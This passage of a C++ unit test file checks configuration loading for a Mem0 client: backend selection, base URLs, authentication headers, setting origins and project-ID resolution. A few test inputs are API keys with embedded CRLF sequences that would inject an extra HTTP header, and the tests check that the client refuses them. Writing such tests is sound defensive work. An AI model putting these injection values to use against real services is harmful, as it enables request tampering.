  CHECK(load_config(env_in(home, {{"MEM0_BACKEND", "selfhosted"}})).dialect ==
        &selfhosted_dialect());

  for (const std::string_view junk : {R"({"backend": "mars"})", R"({"backend": 1})"}) {
    CAPTURE(junk);
    write_settings(home, junk);
    const Config c = load_config(env_in(home));
    CHECK(c.dialect == &platform_dialect());
    CHECK(c.origin("backend") == "default");
  }
}

TEST_CASE("config: a self-hosted server defaults to http://localhost:8888", "[backend]") {
  TempDir home;
  const Config c = load_config(env_in(home, {{"MEM0_BACKEND", "selfhosted"}}));
  CHECK(c.base_url == "http://localhost:8888");
  CHECK(c.origin("base_url") == "default for selfhosted");

  SECTION("MEM0_BASE_URL overrides it") {
    const Config o = load_config(env_in(
        home, {{"MEM0_BACKEND", "selfhosted"}, {"MEM0_BASE_URL", "https://mem0.internal/"}}));
    CHECK(o.base_url == "https://mem0.internal");
    CHECK(o.origin("base_url") == "env MEM0_BASE_URL");
  }
  SECTION("MEM0_HOST overrides it") {
    const Config o = load_config(
        env_in(home, {{"MEM0_BACKEND", "selfhosted"}, {"MEM0_HOST", "http://127.0.0.1:9000"}}));
    CHECK(o.base_url == "http://127.0.0.1:9000");
    CHECK(o.origin("base_url") == "env MEM0_HOST");
  }
  SECTION("settings.json base_url overrides it") {
    write_settings(home,
                   R"({"backend": "selfhosted", "base_url": "https://settings.example.com"})");
    const Config o = load_config(env_in(home));
    CHECK(o.dialect == &selfhosted_dialect());
    CHECK(o.base_url == "https://settings.example.com");
    CHECK(o.origin("base_url") == "settings.json");
  }
  SECTION("the platform's default stays the platform's") {
    const Config p = load_config(env_in(home, {{"MEM0_BACKEND", "platform"}}));
    CHECK(p.base_url == "https://api.mem0.ai");
    CHECK(p.origin("base_url") == "default");
  }
}

TEST_CASE("config: api_target of a self-hosted config sends X-API-Key, and no rerank",
          "[backend]") {
  TempDir home;
  const Config c = load_config(
      env_in(home, {{"MEM0_BACKEND", "selfhosted"}, {"MEM0_API_KEY", "sh-secret-key"}}));
  const auto api = api_target(c);
  REQUIRE(api.has_value());
  CHECK(&api->dialect() == &selfhosted_dialect());
  CHECK(api->base_url() == "http://localhost:8888");
  CHECK(api->headers()[0] == "X-API-Key: sh-secret-key");
  CHECK(api->headers()[0].starts_with("X-API-Key: "));
  CHECK(c.rerank);            // the setting stays on...
  CHECK_FALSE(api->rerank()); // ...but is never sent to a self-hosted server

  const Config p = load_config(env_in(home, {{"MEM0_API_KEY", "m0-platform-key"}}));
  CHECK(api_target(p)->headers()[0] == "Authorization: Token m0-platform-key");
  CHECK(&api_target(p)->dialect() == &platform_dialect());
}

TEST_CASE("config: a self-hosted server may be reached without a key; the platform never",
          "[backend]") {
  TempDir home;
  const Config keyless = load_config(env_in(home, {{"MEM0_BACKEND", "selfhosted"}}));
  CHECK_FALSE(keyless.api_key);
  CHECK(has_access(keyless));
  const auto api = api_target(keyless);
  REQUIRE(api.has_value());
  for (const auto &h : api->headers()) {
    CHECK_FALSE(h.starts_with("X-API-Key"));
    CHECK_FALSE(h.starts_with("Authorization"));
  }
  CHECK(api->headers().size() == 3); // JSON both ways and the User-Agent

  const Config platform = load_config(env_in(home));
  CHECK_FALSE(has_access(platform));
  CHECK(api_target(platform).error().kind == ErrorKind::unauthorized);

  // A key that was set but refused is not quietly replaced by none.
  const Config refused =
      load_config(env_in(home, {{"MEM0_BACKEND", "selfhosted"}, {"MEM0_API_KEY", "sh-a\r\nb"}}));
  CHECK_FALSE(refused.api_key_problem.empty());
  CHECK_FALSE(has_access(refused));
}

TEST_CASE("config: shared memory is on by default; the environment beats settings.json",
          "[backend]") {
  TempDir home;
  CHECK(load_config(env_in(home)).shared_memory);
  CHECK_FALSE(load_config(env_in(home, {{"MEM0_SHARED_MEMORY", "off"}})).shared_memory);
  CHECK_FALSE(load_config(env_in(home, {{"MEM0_SHARED_MEMORY", "FALSE"}})).shared_memory);
  CHECK(load_config(env_in(home, {{"MEM0_SHARED_MEMORY", "garbage"}})).shared_memory);

  write_settings(home, R"({"shared_memory": false})");
  CHECK_FALSE(load_config(env_in(home)).shared_memory);
  CHECK(load_config(env_in(home, {{"MEM0_SHARED_MEMORY", "yes"}})).shared_memory);
  CHECK_FALSE(load_config(env_in(home, {{"MEM0_SHARED_MEMORY", "garbage"}})).shared_memory);

  write_settings(home, R"({"shared_memory": true})");
  CHECK(load_config(env_in(home)).shared_memory);
  CHECK_FALSE(load_config(env_in(home, {{"MEM0_SHARED_MEMORY", "0"}})).shared_memory);

  write_settings(home, R"({"shared_memory": "no"})"); // not a boolean: the default
  CHECK(load_config(env_in(home)).shared_memory);
}

// ---------------------------------------------------------------------------------------------
// The settings table: every value's origin (docs/configuration.md#precedence)

namespace {

// A valid environment value of `row`: its default's text, or any text when it has none (the
// base URL's default is the dialect's).
std::string valid_text(const Setting &row) {
  if (row.name == "base_url") return std::string(platform_dialect().traits().default_base_url);
  return row.fallback.empty() ? "x" : std::string(row.fallback);
}

// A settings.json object with a valid value of the right type for every key of the table.
constexpr std::string_view k_every_key = R"({
  "backend": "selfhosted", "base_url": "https://settings.example.com", "shared_memory": false,
  "team_memory": true,
  "auto_search": false, "confidence_threshold": 0.5, "global_search": true,
  "search_plan": "thorough", "daily_search_limit": 3, "auto_save": false, "daily_add_limit": 4,
  "retention_session_days": 7, "block_native_memory": false, "show_recall": true, "debug": true,
  "auto_dream": true, "dream_similarity": 0.9
})";

} // namespace

TEST_CASE("config: every setting is a row with a name and at least one variable", "[origin]") {
  std::set<std::string_view> names;
  for (const Setting &row : settings_table()) {
    CAPTURE(row.name);
    CHECK(names.insert(row.name).second);
    // a MEM0_ variable (the user id's first ones are those of Mem0's plugins)
    CHECK(std::any_of(row.env.begin(), row.env.end(),
                      [](std::string_view v) { return v.starts_with("MEM0_"); }));
    CHECK((row.key.empty() || row.key == row.name));
    CHECK(row.parser.from_env);
    CHECK(row.parser.from_json);
    CHECK(row.parser.show);
  }
  CHECK(names.size() == 25);
}

TEST_CASE("config: team memory is on by default for the Platform, off for a self-hosted server",
          "[origin][team]") {
  TempDir home;
  const Config platform = load_config(env_in(home));
  CHECK(platform.team_memory);
  CHECK(platform.origin("team_memory") == "default");
  const Config selfhosted = load_config(env_in(home, {{"MEM0_BACKEND", "selfhosted"}}));
  CHECK_FALSE(selfhosted.team_memory);
  CHECK(selfhosted.origin("team_memory") == "default for selfhosted");
  const Config off = load_config(env_in(home, {{"MEM0_TEAM_MEMORY", "off"}}));
  CHECK_FALSE(off.team_memory);
  CHECK(off.origin("team_memory") == "env MEM0_TEAM_MEMORY");
}

TEST_CASE("config: with nothing set, every value's origin is default", "[origin]") {
  TempDir home;
  const Config c = load_config(env_in(home));
  for (const Setting &row : settings_table()) {
    CAPTURE(row.name);
    CHECK(c.origin(row.name) == "default");
  }
  CHECK(c.origin("no such setting").empty());
}

TEST_CASE("config: the table's defaults are Config's own", "[origin]") {
  TempDir home;
  const Config loaded = load_config(env_in(home));
  const Config plain;
  for (const Setting &row : settings_table()) {
    if (row.name == "user_id" || row.name == "state_dir") continue; // found at run time
    CAPTURE(row.name);
    CHECK(row.parser.show(loaded) == row.parser.show(plain));
    if (row.by_default || row.fallback.empty()) continue;
    Config parsed; // the table's text for the default reads as Config's own value
    REQUIRE(row.parser.from_env(parsed, row.fallback, ""));
    CHECK(row.parser.show(parsed) == row.parser.show(plain));
  }
}

TEST_CASE("config: a value from the environment has the origin of its variable", "[origin]") {
  TempDir home;
  write_settings(home, k_every_key);
  for (const Setting &row : settings_table())
    for (const std::string_view variable : row.env) {
      if (variable.empty()) break;
      CAPTURE(row.name, variable);
      const Config c = load_config(env_in(home, {{std::string(variable), valid_text(row)}}));
      CHECK(c.origin(row.name) == "env " + std::string(variable));
    }
}

TEST_CASE("config: a value from settings.json has the origin settings.json", "[origin]") {
  TempDir home;
  write_settings(home, k_every_key);
  const Config c = load_config(env_in(home));
  rapidjson::Document every;
  every.Parse(k_every_key.data(), k_every_key.size());
  std::size_t keys = 0;
  for (const Setting &row : settings_table()) {
    CAPTURE(row.name);
    if (row.key.empty()) {
      CHECK(c.origin(row.name) == "default");
      continue;
    }
    CHECK(every.HasMember(std::string(row.key).c_str()));
    CHECK(c.origin(row.name) == "settings.json");
    ++keys;
  }
  CHECK(keys == every.MemberCount());
  CHECK(c.origin("base_url") == "settings.json"); // not the self-hosted default
}

TEST_CASE("config: an environment value not understood is named in the origin of the value used",
          "[origin]") {
  TempDir home;
  const Config c = load_config(env_in(home, {{"MEM0_TIMEOUT_MS", "12ms"},
                                             {"MEM0_AUTO_SEARCH", "maybe"},
                                             {"MEM0_CONFIDENCE_THRESHOLD", "2"},
                                             {"MEM0_SEARCH_PLAN", " "}}));
  CHECK(c.timeout == std::chrono::milliseconds(5000));
  CHECK(c.origin("timeout_ms") == "default; MEM0_TIMEOUT_MS=12ms not understood (decimal digits)");
  CHECK(c.origin("auto_search") ==
        "default; MEM0_AUTO_SEARCH=maybe not understood (1, true, yes, on, 0, false, no or off)");
  CHECK(c.origin("confidence_threshold") ==
        "default; MEM0_CONFIDENCE_THRESHOLD=2 not understood (a number from 0 to 1)");
  CHECK(c.origin("search_plan") == "default"); // blank: unset, nothing to complain about
}

TEST_CASE("config: the origins of the API key and the user id", "[origin]") {
  TempDir home;
  CHECK(load_config(env_in(home, {{"CLAUDE_PLUGIN_OPTION_API_KEY", "m0-plugin"}}))
            .origin("api_key") == "env CLAUDE_PLUGIN_OPTION_API_KEY");
  write_file(home / ".bashrc", "export MEM0_API_KEY=m0-profile\n");
  CHECK(load_config(env_in(home)).origin("api_key") == "~/.bashrc");
  // A refused key keeps its origin; its value is never shown.
  const Config refused = load_config(env_in(home, {{"MEM0_API_KEY", "m0-abc\r\nX: 1"}}));
  CHECK(refused.origin("api_key") == "env MEM0_API_KEY");
  const Setting &key_row = settings_table().front();
  REQUIRE(key_row.name == "api_key");
  CHECK(key_row.parser.show(refused) == "refused");
  const Config with_key = load_config(env_in(home, {{"MEM0_API_KEY", "m0-abcdefghijklmnop"}}));
  CHECK(key_row.parser.show(with_key) == "m0-…mnop");
  CHECK(load_config(env_in(home, {{"USER", " unix-user "}})).origin("user_id") == "env USER");
}

TEST_CASE("project id: the map under the root and the real paths, from a subdirectory or a link",
          "[identity][no-wine]") {
  TempDir home;
  const fs::path repo = home / "code/mem0";
  make_repo(repo);
  const fs::path sub = repo / "pkg/deep";
  fs::create_directories(sub);
  fs::create_symlink(repo, home / "link");
  const fs::path real_repo = fs::canonical(repo);
  const Environment env = env_in(home);
  const fs::path map_path = home / ".mem0/project_map.json";
  for (const fs::path &cwd : {sub, home / "link/pkg/deep"}) {
    CAPTURE(cwd);
    write_file(map_path, "{\"" + backslashes_escaped(real_repo.string()) + "\": \" by-root \"}");
    const ProjectId id = resolve_project_id(load_config(env), env, cwd, Log("unit-test"));
    CHECK(id.id == "by-root");
    CHECK(id.source == "project_map.json (root)");
  }
  // The link's own path is the key of the cwd as given.
  write_file(map_path, "{\"" + backslashes_escaped((home / "link").string()) + "\": \"by-link\"}");
  CHECK(resolve_project_id(load_config(env), env, home / "link", Log("unit-test")).id == "by-link");
  CHECK(resolve_project_id(load_config(env), env, repo, Log("unit-test")).id == "mem0ai-mem0");
}

TEST_CASE("project id: the remote key of the url as written, and the one of earlier releases",
          "[identity]") {
  TempDir home;
  const std::string written = "https://bot:tok_5e6f@github.com/acme/billing.git";
  const fs::path repo = home / "code/billing";
  make_repo(repo, "[remote \"origin\"]\n\turl = " + written + "\n");
  const Environment env = env_in(home);
  const fs::path map_path = home / ".mem0/project_map.json";
  for (const auto &[key, expected] :
       {std::pair{map_key_for(written), "as-0.3-writes"},
        {map_key_for("https://github.com/acme/billing.git"), "as-we-wrote"}}) {
    write_file(map_path, "{\"" + key + "\": \"" + expected + "\"}");
    const ProjectId id = resolve_project_id(load_config(env), env, repo / "src", Log("unit-test"));
    CHECK(id.id == expected);
    CHECK(id.source == "project_map.json (remote)");
    CHECK(read_file(map_path).find("tok_5e6f") == std::string::npos);
  }
  fs::remove(map_path);
  const ProjectId slug = resolve_project_id(load_config(env), env, repo, Log("unit-test"));
  CHECK(slug.id == "acme-billing");
}

TEST_CASE("project id: without a remote, the root's base name, not the subdirectory's",
          "[identity]") {
  TempDir home;
  const fs::path repo = home / "code/service";
  make_repo(repo, "[core]\n\tbare = false\n");
  fs::create_directories(repo / "api/v2");
  const Environment env = env_in(home);
  const ProjectId id = resolve_project_id(load_config(env), env, repo / "api/v2", Log("unit-test"));
  CHECK(id.id == "service");
  CHECK(id.source == "directory name");
  // The rules before gave the subdirectory's name: doctor names it.
  CHECK(previous_ids(load_config(env), env, repo / "api/v2").project_id == "v2");
  CHECK(previous_ids(load_config(env), env, repo).project_id == "service");
}

TEST_CASE("project id: bad input is named and passed over, never a wildcard", "[identity]") {
  TempDir home;
  const fs::path repo = home / "code" / "mem0";
  make_repo(repo);
  const fs::path map_path = home / ".mem0" / "project_map.json";
  Environment env = env_in(home, {{"MEM0_PROJECT_ID", " * "}});

  write_file(map_path, "{\"" + backslashes_escaped(repo.string()) + "\": \"trunc");
  ProjectId id = resolve_project_id(load_config(env), env, repo, Log("unit-test"));
  CHECK(id.id == "mem0ai-mem0");
  CHECK(id.problem.find("MEM0_PROJECT_ID=* ignored") != std::string::npos);
  CHECK(id.problem.find(map_path.string() + " is not valid JSON: skipped") != std::string::npos);

  write_file(map_path, "[1]");
  env = env_in(home);
  id = resolve_project_id(load_config(env), env, repo, Log("unit-test"));
  CHECK(id.id == "mem0ai-mem0");
  CHECK(id.problem == map_path.string() + " is not a JSON object: skipped");

  // A wildcard value passes the map over (as 0.3: not the next key), to the slug.
  write_file(map_path, "{\"" + backslashes_escaped(repo.string()) + "\": \"**\", \"" +
                           map_key_for("git@github.com:mem0ai/mem0.git") + "\": \"mapped\"}");
  id = resolve_project_id(load_config(env), env, repo, Log("unit-test"));
  CHECK(id.id == "mem0ai-mem0");
  CHECK(id.source == "git remote origin");
  CHECK(id.problem.find("value * ignored") != std::string::npos);

  write_file(map_path, "{}");
  id = resolve_project_id(load_config(env), env, repo, Log("unit-test"));
  CHECK(id.problem.empty());
}
